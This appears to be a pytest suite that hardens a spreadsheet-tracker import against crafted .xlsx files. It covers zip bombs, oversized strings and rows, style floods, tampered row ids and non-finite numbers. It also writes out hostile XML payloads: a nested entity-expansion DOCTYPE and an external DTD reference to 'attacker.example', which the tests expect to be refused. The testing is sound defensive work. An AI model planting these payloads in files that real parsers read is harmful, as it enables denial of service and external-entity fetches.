"""Untrusted trackers (issue 16): every attack is a real crafted .xlsx run through the real
import, refused with one line or imported validly, within bounded memory and time."""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from tracker_attacks import (
    OBJECTIVES_PART,
    part,
    rebuild,
    sheet_part,
    sheet_with_rows,
    worst_tracker,
)

import main
from exporters.tracker import write_tracker
from exporters.tracker_archive import MAX_ROWS
from exporters.tracker_import import TrackerError, prepare_import
from exporters.tracker_layout import objective_column
from planning.enums import CarryDecision, ObjectiveStatus
from planning.fileformat import dumps, load_workbook, save_workbook
from planning.model import CarryOver

ROOT = Path(__file__).resolve().parent.parent
ID = objective_column("row_id")


@pytest.fixture
def exported(later_sample, tmp_path) -> tuple[Path, Path]:
    workbook_path = tmp_path / "northwind.pmowb"
    save_workbook(later_sample, workbook_path)
    tracker_path = tmp_path / "tracker.xlsx"
    write_tracker(later_sample, tracker_path)
    return workbook_path, tracker_path


def _refused(workbook_path: Path, tracker: Path, capsys) -> str:
    """Runs the command line on `tracker`: exit 2, one line, workbook untouched."""
    before = workbook_path.read_bytes()
    tracker_before = tracker.read_bytes()
    assert main.main(["import-tracker", str(workbook_path), str(tracker)]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1
    assert workbook_path.read_bytes() == before
    assert tracker.read_bytes() == tracker_before
    return err


def _never_parsed(monkeypatch) -> None:
    def never(*args, **kwargs):
        raise AssertionError("openpyxl must not parse this tracker")

    monkeypatch.setattr("openpyxl.load_workbook", never)


# --- Size: zip bombs, huge strings, endless rows ------------------------------------------


def test_many_small_hidden_sheets_are_refused_from_the_directory(
    exported, tmp_path, capsys, monkeypatch
):
    """Issue 16 item 5: 40 hidden sheets of 0.999 MB each (each under the old per-part
    check) took 3.7 GB; the ratio over all parts together refuses them unparsed."""
    workbook_path, tracker_path = exported
    sheet = b"<worksheet><sheetData>" + b" " * 999_000 + b"</sheetData></worksheet>"
    bomb = rebuild(
        tracker_path,
        tmp_path / "sheets.xlsx",
        add={f"xl/worksheets/hidden{i}.xml": sheet for i in range(40)},
    )
    assert bomb.stat().st_size < 200_000
    _never_parsed(monkeypatch)
    assert "zip bomb" in _refused(workbook_path, bomb, capsys)


def test_a_215_mb_shared_string_is_refused(exported, tmp_path, capsys, monkeypatch):
    """Issue 16 item 2: one comment cell holding a 215 MB shared string in a small file
    used to be imported into a workbook the app then refused to open."""
    workbook_path, tracker_path = exported
    bomb = tmp_path / "string.xlsx"
    rebuild(tracker_path, bomb)
    with (
        zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as stream,
    ):
        stream.write(b"<sst><si><t>")
        for _ in range(215):
            stream.write(b"x" * 1_000_000)
        stream.write(b"</t></si></sst>")
    assert bomb.stat().st_size < 2_000_000
    _never_parsed(monkeypatch)
    assert "zip bomb" in _refused(workbook_path, bomb, capsys)


def test_text_longer_than_a_cell_is_a_cell_problem(exported, later_sample, tmp_path):
    """Issue 16 item 2: 40,000 characters in a Comments cell are a problem of that cell;
    the row's other cells still import."""
    _workbook_path, tracker_path = exported
    book = openpyxl.load_workbook(tracker_path)
    ws = book["Objectives"]
    ws.cell(2, objective_column("comments")).value = "LONG-COMMENT"
    ws.cell(2, objective_column("status")).value = "At risk"
    book.save(tracker_path)
    # openpyxl cuts what it writes at 32,767 characters; Excel files from elsewhere need not.
    sheet = part(tracker_path, OBJECTIVES_PART).replace(b"LONG-COMMENT", b"y" * 40_000)
    attack = rebuild(tracker_path, tmp_path / "long.xlsx", {OBJECTIVES_PART: sheet})
    plan = prepare_import(later_sample, attack)
    [problem] = plan.problems
    assert problem.column == "Comments" and problem.row == 2
    assert (
        problem.message
        == "longer than a cell can hold (40,000 characters; at most 32,767); skipped"
    )
    assert [c.describe() for c in plan.changes] == ["PO-1 Status: On track → At risk"]


def test_rows_past_the_limit_stop_the_stream(exported, later_sample, tmp_path, monkeypatch):
    """Issue 16 item 5: a 1,000,000-row sheet was loaded whole (1.8 GB, 72 s) before the
    row limit refused it. Such a sheet is over the part size limit now; one of 150,000 small
    rows (under it) is refused as the stream passes the limit, before openpyxl runs."""
    _workbook_path, tracker_path = exported
    rows = b"".join(
        b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (n, n, n) for n in range(7, 150_007)
    )
    attack = rebuild(
        tracker_path, tmp_path / "rows.xlsx", {OBJECTIVES_PART: sheet_with_rows(tracker_path, rows)}
    )
    _never_parsed(monkeypatch)
    with pytest.raises(TrackerError, match=f"more than {MAX_ROWS:,} rows"):
        prepare_import(later_sample, attack)


def test_a_row_far_below_the_table_stops_at_the_row_limit(exported, later_sample, tmp_path):
    """One cell in the sheet's last row: openpyxl would yield a million empty rows."""
    _workbook_path, tracker_path = exported
    row = b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>'
    attack = rebuild(
        tracker_path, tmp_path / "far.xlsx", {OBJECTIVES_PART: sheet_with_rows(tracker_path, row)}
    )
    with pytest.raises(TrackerError, match=f"more than {MAX_ROWS:,} rows"):
        prepare_import(later_sample, attack)


def test_a_row_wider_than_any_tracker_is_refused(exported, later_sample, tmp_path):
    """openpyxl builds a row whole: 1,000,000 cells in one row took 518 MB."""
    _workbook_path, tracker_path = exported
    row = b"<row>" + b"<c><v>1</v></c>" * 2000 + b"</row>"
    attack = rebuild(
        tracker_path, tmp_path / "wide.xlsx", {OBJECTIVES_PART: sheet_with_rows(tracker_path, row)}
    )
    with pytest.raises(
        TrackerError, match="the Objectives sheet has a row of more than 1,024 cells"
    ):
        prepare_import(later_sample, attack)


def test_the_lists_sheet_is_bounded_too(exported, later_sample, tmp_path):
    _workbook_path, tracker_path = exported
    name = sheet_part(tracker_path, "Lists")
    head, tail = part(tracker_path, name).split(b"</sheetData>")
    wide = head + b"<row>" + b"<c><v>1</v></c>" * 2000 + b"</row></sheetData>" + tail
    attack = rebuild(tracker_path, tmp_path / "lists.xlsx", {name: wide})
    with pytest.raises(TrackerError, match="the Lists sheet has a row of more than 1,024 cells"):
        prepare_import(later_sample, attack)


def test_only_the_sheets_the_import_needs_are_parsed(exported, later_sample, tmp_path):
    """Every other sheet is only scanned for a DTD: a broken Alignment sheet (here, not even
    XML) does not stop the import, because openpyxl never sees it."""
    _workbook_path, tracker_path = exported
    attack = rebuild(
        tracker_path,
        tmp_path / "other.xlsx",
        {sheet_part(tracker_path, "Alignment"): b"<worksheet><sheetData><row><c>"},
    )
    plan = prepare_import(later_sample, attack)
    assert plan.rows_matched == len(later_sample.active_objectives())
    assert (plan.changes, plan.problems) == ([], [])


def test_too_many_styles_are_refused_as_they_stream(exported, later_sample, tmp_path):
    """openpyxl builds an object per style: 3,000,000 `<xf/>` (14 MB, padded under the
    ratio bound) took 75 s and 1.6 GB. Styles, shared strings and the workbook part have
    element limits, checked as they stream."""
    import os

    _workbook_path, tracker_path = exported
    styles = part(tracker_path, "xl/styles.xml")
    at = styles.index(b">", styles.index(b"<cellXfs")) + 1
    styles = styles[:at] + b"<xf/>" * 60_000 + styles[at:]
    attack = rebuild(
        tracker_path,
        tmp_path / "styles.xlsx",
        {"xl/styles.xml": styles},
        {"xl/media/padding.bin": os.urandom(20_000)},
    )
    with pytest.raises(TrackerError, match=r"xl/styles\.xml has more than 50,000 elements"):
        prepare_import(later_sample, attack)


_MEASURE = """
import json, resource, sys, time
from exporters.tracker_import import prepare_import
from planning.fileformat import load_workbook
workbook = load_workbook(sys.argv[1])
start = time.monotonic()
try:
    plan = prepare_import(workbook, sys.argv[2])
    outcome = plan.summary()
except Exception as exc:
    outcome = type(exc).__name__ + ": " + str(exc)
print(json.dumps({
    "seconds": time.monotonic() - start,
    "peak_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024,
    "outcome": outcome,
}))
"""


@pytest.mark.slow
def test_the_worst_tracker_the_bounds_allow_stays_within_500_mb_and_10_s(exported, tmp_path):
    """Issue 16 item 5: the heaviest tracker every size bound lets through (a 16 MB shared
    string, the Objectives sheet at its cell limit, hidden sheets up to the total size) is
    imported within 500 MB of memory and 10 s, measured in a fresh process."""
    workbook_path, tracker_path = exported
    attack = worst_tracker(tracker_path, tmp_path / "worst.xlsx")
    result = subprocess.run(
        [sys.executable, "-c", _MEASURE, str(workbook_path), str(attack)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"},
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    measured = json.loads(result.stdout)
    assert measured["outcome"].startswith("5 objectives matched")
    assert measured["peak_mb"] < 500
    assert measured["seconds"] < 10


# --- XML entity declarations and external DTDs, in any part -------------------------------

ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
EXTERNAL = b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">'


@pytest.mark.parametrize(
    "name",
    [
        "docProps/app.xml",  # never read by openpyxl
        "xl/drawings/drawing1.xml",  # a part of a sheet the import does not read
        "xl/charts/chart1.xml",
        "[Content_Types].xml",
        "xl/_rels/workbook.xml.rels",
        "xl/styles.xml",
    ],
)
@pytest.mark.parametrize("doctype", [ENTITIES, EXTERNAL], ids=["entities", "external-dtd"])
def test_a_dtd_in_any_part_is_refused(exported, tmp_path, capsys, name, doctype):
    workbook_path, tracker_path = exported
    xml = part(tracker_path, name)
    body = xml[xml.index(b"?>") + 2 :] if xml.startswith(b"<?xml") else xml
    hostile = rebuild(
        tracker_path, tmp_path / "dtd.xlsx", {name: b'<?xml version="1.0"?>' + doctype + body}
    )
    assert "XML entity declarations or a DTD" in _refused(workbook_path, hostile, capsys)


def test_a_dtd_in_a_utf16_part_is_refused(exported, tmp_path, capsys):
    workbook_path, tracker_path = exported
    xml = ('<?xml version="1.0" encoding="UTF-16"?>' + EXTERNAL.decode() + "<x/>").encode("utf-16")
    hostile = rebuild(tracker_path, tmp_path / "utf16.xlsx", add={"customXml/item1.xml": xml})
    assert "XML entity declarations or a DTD" in _refused(workbook_path, hostile, capsys)


def test_a_dtd_after_leading_whitespace_is_refused(exported, tmp_path, capsys):
    """Without an XML declaration, whitespace may come before a DOCTYPE: the scan does not
    mistake such a part for a binary one."""
    workbook_path, tracker_path = exported
    xml = part(tracker_path, "docProps/app.xml")
    body = xml[xml.index(b"?>") + 2 :] if xml.startswith(b"<?xml") else xml
    hostile = rebuild(
        tracker_path, tmp_path / "spaced.xlsx", {"docProps/app.xml": b"\n " * 500 + EXTERNAL + body}
    )
    assert "XML entity declarations or a DTD" in _refused(workbook_path, hostile, capsys)


# --- Tampered Row ids, closed objectives ----------------------------------------------------


def _rows_by_id(ws) -> dict[str, int]:
    return {ws.cell(r, ID).value: r for r in range(2, ws.max_row + 1) if ws.cell(r, ID).value}


def test_swapped_row_ids_are_problems_not_updates(exported, later_sample, capsys):
    """Issue 16 item 7: swapping two rows' hidden ids applied each row's values to the other
    objective; a row whose id names an objective with another code and title is a problem."""
    workbook_path, tracker_path = exported
    book = openpyxl.load_workbook(tracker_path)
    ws = book["Objectives"]
    po1, po4 = later_sample.active_objectives()[:2]
    rows = _rows_by_id(ws)
    ws.cell(rows[po1.id], ID).value, ws.cell(rows[po4.id], ID).value = po4.id, po1.id
    ws.cell(rows[po1.id], objective_column("q3")).value = 99
    ws.cell(rows[po4.id], objective_column("status")).value = "Off track"
    book.save(tracker_path)
    before = workbook_path.read_bytes()
    assert main.main(["import-tracker", str(workbook_path), str(tracker_path)]) == 0
    out = capsys.readouterr().out
    assert "0 changes, 2 problems" in out
    assert f'this Row id belongs to {po4.code} "{po4.title}", but the row shows "{po1.code}"' in out
    assert workbook_path.read_bytes() == before


def test_a_row_pointing_at_a_closed_objective_changes_nothing(later_sample, tmp_path, capsys):
    """Issue 16 item 7: a row re-pointed at an achieved (closed) objective reopened it as
    Off track. Objectives the tracker did not hold are never changed by it."""
    closed = later_sample.objectives[-1]
    closed.carried = closed.carried or CarryOver()
    closed.carried.decision = CarryDecision.ACHIEVED
    closed.status = ObjectiveStatus.ACHIEVED
    assert not closed.is_active()
    workbook_path = tmp_path / "wb.pmowb"
    save_workbook(later_sample, workbook_path)
    tracker_path = tmp_path / "t.xlsx"
    write_tracker(later_sample, tracker_path)
    book = openpyxl.load_workbook(tracker_path)
    ws = book["Objectives"]
    assert closed.id not in _rows_by_id(ws)
    ws.cell(2, ID).value = closed.id
    ws.cell(2, objective_column("code")).value = closed.code
    ws.cell(2, objective_column("title")).value = closed.title
    ws.cell(2, objective_column("status")).value = "Off track"
    book.save(tracker_path)
    before = dumps(load_workbook(workbook_path))
    assert main.main(["import-tracker", str(workbook_path), str(tracker_path)]) == 0
    out = capsys.readouterr().out
    assert "is closed (achieved) and was not in the exported tracker" in out
    assert dumps(load_workbook(workbook_path)) == before


# --- Numbers that are not finite; all or nothing ---------------------------------------------


@pytest.mark.parametrize("raw", ["1e999", "-1E999"])
def test_non_finite_numbers_are_cell_problems(exported, later_sample, capsys, raw):
    """Issue 16 item 8: `1e999` previewed as `→ inf` and the real import ended in a
    traceback; it is a problem of its cell, and the rest imports."""
    workbook_path, tracker_path = exported
    book = openpyxl.load_workbook(tracker_path)
    ws = book["Objectives"]
    ws.cell(2, objective_column("q1")).value = raw
    ws.cell(2, objective_column("q2")).value = 71
    book.save(tracker_path)
    assert main.main(["import-tracker", str(workbook_path), str(tracker_path)]) == 0
    out = capsys.readouterr().out
    assert f'Q1 actual: not a finite number; skipped (found "{raw}")' in out
    assert "→ inf" not in out and "→ -inf" not in out
    assert load_workbook(workbook_path).active_objectives()[0].actuals[1] == 71.0
